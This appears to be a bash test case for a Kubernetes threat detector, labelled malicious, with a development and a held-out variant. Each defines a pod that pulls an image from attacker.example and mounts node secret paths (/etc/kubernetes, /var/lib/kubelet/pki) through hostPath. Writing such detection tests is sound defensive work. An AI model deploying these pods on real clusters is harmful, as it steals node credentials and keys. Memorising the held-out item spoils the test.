# shellcheck shell=bash disable=SC2154
# what: a pod that reads the node's secrets.
# label: malicious
# expects: [sensitive-mount-ro]
# allows: [image-from-unknown-registry, pod-host-path-mounted, api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: v1
kind: Pod
metadata: {name: reader, namespace: shop}
spec:
  containers: [{name: r, image: "attacker.example/tools:1", volumeMounts: [{name: e, mountPath: /e, readOnly: true}]}]
  volumes: [{name: e, hostPath: {path: /etc/kubernetes}}]
Y
}
hold_out() { request POST /api/v1/namespaces/shop/pods '{"metadata":{"name":"logs"},"spec":{"containers":[{"name":"l","image":"attacker.example/tools:1","volumeMounts":[{"name":"e","mountPath":"/e","readOnly":true}]}],"volumes":[{"name":"e","hostPath":{"path":"/var/lib/kubelet/pki"}}]}}'; }
